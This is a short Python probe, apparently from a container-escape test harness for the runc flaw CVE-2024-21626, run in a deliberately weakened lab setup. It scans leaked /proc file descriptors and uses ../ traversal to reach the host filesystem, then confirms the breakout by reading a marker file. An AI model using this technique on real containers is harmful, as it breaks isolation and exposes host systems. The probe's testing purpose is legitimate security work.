"""A directory left open by whoever started us leads out of the root (CVE-2024-21626)."""
# weakened: -v /:/host:ro --user 0
# first: exec 9</host

import glob
import os

from inside import HOST, escaped

for path in glob.glob("/proc/[0-9]*/fd/*"):
    for way in (path, f"{path}/../../../../../.."):
        try:
            if os.path.isdir(way):
                with open(way + HOST["file"]) as file:
                    if HOST["word"] in file.read():
                        escaped(f"{way} is outside")
        except OSError:
            continue
